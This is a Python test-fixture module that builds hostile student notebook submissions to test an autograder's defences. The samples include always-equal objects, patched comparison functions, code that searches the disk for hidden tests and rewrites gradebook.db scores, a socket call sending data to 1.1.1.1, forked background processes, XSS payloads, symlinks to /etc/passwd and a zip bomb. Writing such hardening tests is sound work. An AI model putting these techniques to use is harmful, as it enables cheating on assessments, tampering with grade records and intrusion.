"""Students who attack the grader, and files that no grader should trip over.

Most attacks come with empty solutions, so that any point they get would show. Each aims at a trap
that a test sets: a canary file, a listening port, the course root.
"""

import json
from collections.abc import Callable

from autograder.authoring.solution_sources import reference_sources
from autograder.authoring.student_notebook import Notebook
from course.sample_class.handed_in import Sample, zip_of

NOTHING = {"*": 0.0}
UNREADABLE = "A person decides: "

EQUAL = """
class Equal:
    shape, dtype, ndim = (), torch.float32, 0
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __getattr__(self, name): return self
    def __call__(self, *args, **named): return self
    def __getitem__(self, key): return self
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__


class Tensorish(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
"""

PATCH = """
import math, sys
import numpy
for name in ("allclose", "equal", "isclose", "all"):
    setattr(torch, name, lambda *args, **named: True)
torch.testing.assert_close = lambda *args, **named: None
torch.Tensor.__eq__ = lambda self, other: True
numpy.allclose = numpy.array_equal = numpy.isclose = lambda *args, **named: True
math.isclose = lambda *args, **named: True
for module in list(sys.modules.values()):
    for name in ("expect", "CheckFailed", "same", "check", "run_stage"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **named: 100.0)
"""

SNOOP = """
import gc, importlib, inspect, os, sys
found = {{}}
for folder in ("/", "{course}", os.getcwd(), *sys.path):
    for place, _, files in os.walk(folder or "."):
        if place.startswith(("/proc", "/sys")):
            continue
        for file in files:
            if (file.startswith(("test_counting", "01-static", "mistakes_", ".course-secret"))
                    or file.endswith(".ipynb")):
                try:
                    found[file] = open(os.path.join(place, file)).read()
                except OSError:
                    continue
for text in found.values():
    for line in text.splitlines():
        if line.startswith("check("):
            continue
    try:
        exec(text, globals())
    except BaseException:
        continue
for name in ("autograder.chapters.c01_static_embeddings.test_counting",
             "autograder.chapters.c01_static_embeddings.mistakes_counting", "course.sample_class",
             "reference_impl.embeddings.counts", "reference_impl.embeddings.skipgram",
             "reference_impl.embeddings.cbow", "reference_impl.embeddings.glove",
             "reference_impl.embeddings.evaluation"):
    try:
        module = importlib.import_module(name)
        globals().update({{key: value for key, value in vars(module).items() if callable(value)}})
    except BaseException:
        continue
"""

GRADEBOOK = """
import glob, os, sqlite3
for folder in ("{course}", os.getcwd(), "", "/*", "/*/*", "/*/*/_build/course"):
    for path in glob.glob(folder + "/gradebook.db"):
        try:
            with sqlite3.connect(path) as db:
                db.execute("UPDATE grade SET manual_score = 50, needs_manual_grade = 0")
        except Exception:
            continue
for path in ("{canary}", "{course}/verdicts/canary", "{course}/gradebook.db"):
    try:
        open(path, "a").write("was here")
    except OSError:
        continue
"""

NETWORK = """
import socket
for host, port in (("127.0.0.1", {listener}), ("localhost", {listener}), ("1.1.1.1", 80)):
    try:
        with socket.create_connection((host, port), timeout=1) as line:
            line.sendall(b"the hidden tests are")
    except OSError:
        continue
"""

BACKGROUND = """
import os, subprocess, sys, threading, time
try:
    if os.fork() == 0:
        os.setsid()
        time.sleep(3)
        open("{canary}", "a").write("still here")
        time.sleep(600)
        os._exit(0)
except OSError:
    pass
try:
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)  # word2serve-background"])
except OSError:
    pass
threading.Thread(target=time.sleep, args=(600,)).start()
"""

SHADOW = "open('{canary}', 'a').write('shadowed')\ndef allclose(*args): return True\n"

POINTS = """
def check(target):
    return 50.0
from IPython.display import display
display(50.0)
"""

SCRIPT = (
    "<script>document.title = 'owned'; new Image().src ="
    " 'http://127.0.0.1:{listener}/'</script>\n\n<img src=x onerror=\"document.title ="
    " 'owned'\">\n\n<iframe src='javascript:parent.document.title=1'></iframe>\n\n[click"
    " me](javascript:document.title='owned') <style>* {{ display: none }}</style> </pre></main>"
)


def hostile_samples(assignment) -> list[Sample]:
    """All of them."""
    return [*_attacks(assignment), *_runaways(), *_files()]


def _attacks(assignment) -> list[Sample]:
    cheat = _with_cell(assignment)
    return [
        Sample(
            "equals-everything",
            "Functions return an object, or a tensor, that is equal to everything.",
            cheat(EQUAL, "Equal()"),
            loses=NOTHING,
        ),
        Sample(
            "equal-tensor",
            "Functions return a subclass of Tensor whose every operation says True.",
            cheat(EQUAL, "torch.zeros(3).as_subclass(Tensorish)"),
            loses=NOTHING,
        ),
        Sample(
            "patched-allclose",
            "torch.allclose and every other comparison in the process are replaced.",
            cheat(PATCH, "None"),
            loses=NOTHING,
        ),
        Sample(
            "shadowing-torch",
            "A torch.py and a sitecustomize.py lie beside the notebook; they are left out.",
            cheat("", "None"),
            loses=NOTHING,
            files={"torch.py": SHADOW, "sitecustomize.py": SHADOW},
        ),
        Sample(
            "reads-the-checker",
            "Looks for checks, solutions and reference modules on disk and imports them.",
            cheat(SNOOP, "None"),
            loses=NOTHING,
            harmful=True,
        ),
        Sample(
            "writes-the-gradebook",
            "Looks for gradebook.db and writes into it and into the course root.",
            cheat(GRADEBOOK, "None"),
            loses=NOTHING,
            harmful=True,
        ),
        Sample(
            "edited-points",
            "Points, test cells, metadata and outputs were edited, and `check` was replaced.",
            _edited_points,
            loses=NOTHING,
            keeps=("ppmi",),
        ),
        Sample(
            "renamed-cells",
            "Solution cells were given other names; they count as added cells, and they run.",
            _renamed,
        ),
        Sample(
            "network-call",
            "Right, but calls home while it runs; nothing is reached.",
            lambda nb, traps: (
                nb.solve().add(NETWORK.format(**traps), before="window_counts").data()
            ),
            harmful=True,
        ),
        Sample(
            "background-process",
            "Right, but leaves processes behind; they end with the sandbox.",
            lambda nb, traps: (
                nb.solve().add(BACKGROUND.format(**traps), before="window_counts").data()
            ),
            harmful=True,
        ),
        Sample(
            "script-in-an-answer",
            "Right, with script and markup in the written answer and in a comment.",
            _script,
        ),
        Sample(
            "link-beside",
            "Right; a link to a host file lies beside the notebook and is not followed.",
            lambda nb, traps: nb.solve().data(),
            links={"data.csv": "/etc/passwd"},
        ),
    ]


def _runaways() -> list[Sample]:
    def one(short: str, source: str) -> Callable:
        return lambda notebook, traps: notebook.solve().write(short, source).data()

    return [
        Sample(
            "infinite-loop",
            "One function never ends; only its points are lost.",
            one("ppmi", "def ppmi(counts):\n    while True:\n        counts = counts + 0"),
            loses={"ppmi": 5},
            harmful=True,
        ),
        Sample(
            "memory-hog",
            "One function takes all the memory it can get; only its points are lost.",
            one(
                "sgns_loss",
                "def sgns_loss(center, context, negatives):\n    hoard = []\n    while True:\n"
                "        hoard.append(torch.empty(2**26))",
            ),
            loses={"sgns_loss": 5},
            harmful=True,
        ),
        Sample(
            "endless-output",
            "One function prints for ever; only its points are lost.",
            one(
                "glove_weight",
                "def glove_weight(counts, x_max=100.0, alpha=0.75):\n    while True:\n"
                "        print('x' * 10_000)",
            ),
            loses={"glove_weight": 3},
            harmful=True,
        ),
        Sample(
            "exits-in-a-function",
            "One function calls os._exit(0); only its points are lost.",
            one("analogy", "import os\ndef analogy(matrix, a, b, c):\n    os._exit(0)"),
            loses={"analogy": 5},
            harmful=True,
        ),
        Sample(
            "exits-in-a-cell",
            "An added cell calls os._exit(0); the others run without it.",
            lambda nb, traps: nb.solve().add("import os\nos._exit(0)", before="ppmi").data(),
            harmful=True,
        ),
    ]


def _files() -> list[Sample]:
    return [
        Sample(
            "broken-json",
            UNREADABLE + "the file was cut off in the middle.",
            lambda nb, traps: (data := nb.solve().data())[: len(data) // 2],
            human=True,
        ),
        Sample(
            "empty-file", UNREADABLE + "the file has no bytes.", lambda nb, traps: b"", human=True
        ),
        Sample(
            "not-a-notebook",
            UNREADABLE + "the file is a picture.",
            lambda nb, traps: b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
            human=True,
        ),
        Sample(
            "deep-json",
            UNREADABLE + "the file is nested a hundred thousand deep.",
            lambda nb, traps: b'{"cells": ' + b"[" * 100_000,
            human=True,
        ),
        Sample(
            "huge-cell",
            "One cell is longer than what is read; the rest is graded, a person looks at that one.",
            _huge_cell,
            undecided=("ppmi",),
        ),
        Sample(
            "zip-bomb",
            UNREADABLE + "a zip that unpacks to a thousand times its size.",
            lambda nb, traps: zip_of({f"{nb.assignment.name}.ipynb": b"0" * 15_000_000}),
            zipped=True,
            human=True,
        ),
        Sample(
            "link-to-a-host-file",
            UNREADABLE + "the notebook is a link to a file of the machine.",
            lambda nb, traps: None,
            link="/etc/passwd",
            human=True,
        ),
    ]


def _with_cell(assignment) -> Callable[[str, str], Callable]:
    """Attacks with one added cell, after which every function but the written test returns
    `value`.
    """

    def attack(cell: str, value: str) -> Callable:
        def make(notebook: Notebook, traps: dict) -> bytes:
            first = next(iter(reference_sources(assignment)))
            # The attack's own text is formatted only where it names a trap.
            notebook.add(cell.format(**traps) if "{" in cell else cell, before=first)
            for id, one in assignment.exercises.items():
                if one.kind not in ("manual", "write-test"):
                    names = [one.function, *one.also]
                    known = "" if cell != SNOOP else "if '{0}' not in globals():\n    "
                    notebook.write(
                        id.split(".", 1)[1],
                        "\n".join(
                            f"{known.format(name)}{name} = lambda *args, **named: {value}"
                            for name in names
                        ),
                    )
            return notebook.data()

        return make

    return attack


def _edited_points(notebook: Notebook, traps: dict) -> bytes:
    notebook.solve("ppmi").add(POINTS, before="window_counts")
    for cell in notebook.nb.cells:
        mark = cell.metadata.get("nbgrader")
        if mark and mark.get("grade") and cell.cell_type == "code":
            mark["points"], mark["locked"], cell.source = 500, False, "50.0"
            cell.outputs = [
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    "data": {"text/plain": "50.0"},
                }
            ]
    notebook.nb.metadata["word2serve"] = {"sha256": "", "problem": ""}
    return json.dumps(notebook.nb).encode()


def _renamed(notebook: Notebook, traps: dict) -> bytes:
    notebook.solve()
    for cell in notebook.nb.cells:
        mark = cell.metadata.get("nbgrader", {})
        if mark.get("solution") and cell.cell_type == "code":
            mark["grade_id"] = f"my-{mark['grade_id']}"
    return notebook.data()


def _script(notebook: Notebook, traps: dict) -> bytes:
    notebook.solve()
    notebook.cell("ppmi").source += "\n# </code></pre><script>document.title = 'owned'</script>"
    for id, one in notebook.assignment.exercises.items():
        if one.kind == "manual":
            notebook.write(id.split(".", 1)[1], SCRIPT.format(**traps))
    return notebook.data()


def _huge_cell(notebook: Notebook, traps: dict) -> bytes:
    return notebook.solve().write("ppmi", "data = '" + "x" * 100_000 + "'").data()
